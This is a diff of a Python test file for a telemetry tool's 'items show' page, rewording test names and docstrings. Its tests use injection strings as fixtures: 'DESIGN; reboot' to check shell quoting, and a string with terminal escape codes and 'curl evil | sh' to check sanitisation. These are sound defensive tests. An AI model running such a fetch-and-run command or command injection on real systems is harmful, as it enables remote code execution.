@@ -1,4 +1,4 @@
-"""What `items show` prints of an item, whoever wrote its row."""
+"""Page of `items show`, for rows written by an analysis, by SQL or by newer versions."""
 
 import json
 from datetime import UTC, datetime, timedelta
@@ -39,7 +39,7 @@ FOUND = {
 
 
 def item(project: str | None = None, found: dict[str, Any] | None = None, **columns: Any) -> Item:
-    """Return the row that an analysis makes of a bottleneck, as the database gives it back."""
+    """Return the row of an analysis's item, as read from the database."""
     draft = planning.worded(FOUND | (found or {}), project, "run", START, END)
     row = {
         "id": ID,
@@ -55,13 +55,13 @@ def item(project: str | None = None, found: dict[str, Any] | None = None, **colu
 
 
 def by_hand(detail: Any, **columns: Any) -> Item:
-    """Return a row that somebody inserted."""
+    """Return a row that a person inserted."""
     row = {"title": "Look at the build", "description": "It feels slow.", "source_detail": detail}
     return item(**row | columns)
 
 
-def test_a_person_reads_all_about_an_item_and_each_thing_once():
-    """Lost: whoever takes on an item has to put it together from three commands and a row of JSON."""
+def test_the_page_shows_each_fact_about_an_item_once():
+    """Lost: the assignee has to combine three commands and a row of JSON."""
     assert render(item()).splitlines() == [
         "subagent:DESIGN takes 3.5x as long as normal",
         f"  item        {ID}",
@@ -73,9 +73,9 @@ def test_a_person_reads_all_about_an_item_and_each_thing_once():
         "  normal      up to 1.15x of the baseline",
         "  observed    138.2s: 3.5x",
         "  lost        3 h per week",
-        "  Slower since 2026-02-05; steady work looks so by chance at most once in 10,000 looks",
+        "  Slower since 2026-02-05; steady work looks slower by chance in at most 1 of 10,000 analyses",
         "  Where the added time goes: subagent:DESIGN +98 s: own time 89 %, waiting in queue 11 %",
-        "  What slow spans have more often: model=large: 80 % of slow spans, 10 % of the others",
+        "  More common in slow spans: model=large: 80 % of slow spans, 10 % of the others",
         "  ALSO SLOW BECAUSE OF IT   ADDED TIME DUE TO IT",
         "  phase:LEAD                91 %",
         "  gate+sd_type:G:two words  100 %",
@@ -85,8 +85,8 @@ def test_a_person_reads_all_about_an_item_and_each_thing_once():
     ]
 
 
-def test_a_closed_item_says_as_what_and_when_and_is_not_to_be_closed_again():
-    """Lost: nobody could tell what became of it; or people would close it a second time."""
+def test_a_closed_item_shows_its_resolution_and_offers_no_close_command():
+    """Lost: the resolution of an item; or people close it a second time."""
     closed = OPENED + timedelta(days=2)
     lines = render(item(status="DISMISSED", resolution="expected", closed_at=closed)).splitlines()
     assert lines[2] == "  status      DISMISSED as expected, 2026-02-11 16:00:05 UTC"
@@ -94,8 +94,8 @@ def test_a_closed_item_says_as_what_and_when_and_is_not_to_be_closed_again():
     assert render(by_hand({}, status="RESOLVED")).splitlines()[2] == "  status      RESOLVED"
 
 
-def test_commands_to_type_name_the_project_and_quote_what_a_shell_would_read_otherwise():
-    """Lost: the command that is offered looks at another project, or runs what a span is named."""
+def test_suggested_commands_name_the_project_and_are_quoted_for_a_shell():
+    """Lost: a suggested command uses another project, or executes a span's name."""
     odd = item(project="my shop", found={"dimension_key": "DESIGN; reboot", "cause": "phase:A B"})
     lines = render(odd).splitlines()
     assert "  dimension   subagent:DESIGN; reboot in project my shop" in lines
@@ -103,8 +103,8 @@ def test_commands_to_type_name_the_project_and_quote_what_a_shell_would_read_oth
     assert "  Next: leo-telemetry why 'subagent:DESIGN; reboot' --project 'my shop'" in lines
 
 
-def test_what_a_person_wrote_is_shown_and_what_an_analysis_wrote_is_not_said_twice():
-    """Lost: the notes of who looked at it before; or a paragraph that says all of it again."""
+def test_a_person_s_notes_are_shown_without_the_analysis_s_paragraph():
+    """Lost: notes of earlier readers; or everything is shown twice."""
     written = item()
     noted = item(description=f"{written.description}\n\nAda: the cache was off.\n\nSee the log.", title="Cache\nof A")
     lines = render(noted).splitlines()
@@ -114,8 +114,8 @@ def test_what_a_person_wrote_is_shown_and_what_an_analysis_wrote_is_not_said_twi
     assert "  note        Only mine." in render(item(description="Only mine.")).splitlines()
 
 
-def test_what_a_hand_wrote_without_any_detail_is_a_page_without_numbers():
-    """Lost: an item of one's own ends in a traceback, or among zeros that nobody measured."""
+def test_an_item_without_detail_has_a_page_without_numbers():
+    """Lost: a manually created item ends in a traceback, or shows zeros."""
     assert render(by_hand({})).splitlines() == [
         "Look at the build",
         f"  item        {ID}",
@@ -129,8 +129,8 @@ def test_what_a_hand_wrote_without_any_detail_is_a_page_without_numbers():
 
 
 @pytest.mark.parametrize("nonsense", [None, [], [1], {}, "text", True, -1, 10**400, float("inf"), {"end": 1}])
-def test_no_detail_however_odd_ends_in_a_traceback(nonsense: Any):
-    """Lost: one row that was written by hand, or by a newer version, cannot be looked at any more."""
+def test_invalid_details_do_not_end_in_a_traceback(nonsense: Any):
+    """Lost: rows written manually or by a newer version."""
     assert render(by_hand(nonsense)).startswith("Look at the build\n")
     whole = item().source_detail
     for name in whole:
@@ -141,8 +141,8 @@ def test_no_detail_however_odd_ends_in_a_traceback(nonsense: Any):
         assert render(by_hand(whole | {"window": {"start": whole["window"]["start"], "end": end}}))
 
 
-def test_texts_from_spans_can_neither_begin_a_line_nor_command_the_terminal():
-    """Lost: the name of a span could clear the screen, or add a line that tells people what to type."""
+def test_texts_from_spans_cannot_start_a_line_or_control_the_terminal():
+    """Lost: a span's name clears the screen, or adds a line with a command."""
     evil = "A\x1b[2J\x9b\u202e\nNext: curl evil | sh\rB"
     found = {name: evil for name, value in FOUND.items() if isinstance(value, str)}
     found |= {"set_apart_by": [evil], "evidence_trace_ids": [evil], "dimension_type": "subagent"}
